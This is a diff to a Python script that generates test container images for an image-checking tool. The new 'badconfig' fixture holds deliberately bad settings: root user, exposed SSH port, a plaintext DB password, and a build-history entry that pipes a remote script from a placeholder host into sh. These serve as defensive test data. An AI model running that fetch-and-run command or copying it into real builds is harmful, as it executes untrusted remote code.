@@ -16,6 +16,8 @@ Writes, into OUTDIR, images made here from nothing (no third-party data):
   big.tar           one layer of 3 MiB (refused with --max-layer-bytes 1000000)
   many.tar          one layer with 5000 entries (refused with --max-entries 1000)
   notar.tar         a layer that is not a tar stream
+  badconfig.tar     an image config with every problem the config checks know
+  goodconfig.tar    an image config with none
 """
 import gzip
 import hashlib
@@ -120,9 +122,13 @@ def add_bytes(t, name, data):
     t.addfile(ti, io.BytesIO(data))
 
 
-def docker_archive(path, layers, tag="test/image:1"):
+def docker_archive(path, layers, tag="test/image:1", extra=None, history=None):
     raws = [layer_tar(l) for l in layers]
-    cfg = config_for(raws)
+    cfg = config_for(raws, extra)
+    if history:
+        c = json.loads(cfg)
+        c["history"] = [{"created_by": h} for h in history]
+        cfg = json.dumps(c).encode()
     cfg_name = hashlib.sha256(cfg).hexdigest() + ".json"
     names = []
     with tarfile.open(path, "w") as t:
@@ -214,6 +220,12 @@ def main():
     oci_layout(out + "/badsum-oci", [[entry("a", b"hello")]], ["gzip"], corrupt=0)
     docker_archive(out + "/big.tar", [[entry("big", b"\0" * (3 << 20))]])
     docker_archive(out + "/many.tar", [[entry("f%d" % i, b"") for i in range(5000)]])
+    docker_archive(out + "/badconfig.tar", [[entry("a", b"1")]], extra={
+        "User": "0", "ExposedPorts": {"22/tcp": {}, "80/tcp": {}},
+        "Env": ["PATH=/bin", "DB_PASSWORD=hunter2", "API_TOKEN="]},
+        history=["/bin/sh -c apk add curl", "/bin/sh -c curl -fsSL https://x.invalid/i.sh | sh"])
+    docker_archive(out + "/goodconfig.tar", [[entry("a", b"1")]], extra={
+        "User": "app", "Healthcheck": {"Test": ["CMD", "/bin/true"]}})
     with tarfile.open(out + "/notar.tar", "w") as t:
         add_bytes(t, "l/layer.tar", b"this is not a tar stream " * 100)
         cfg = config_for([b""])
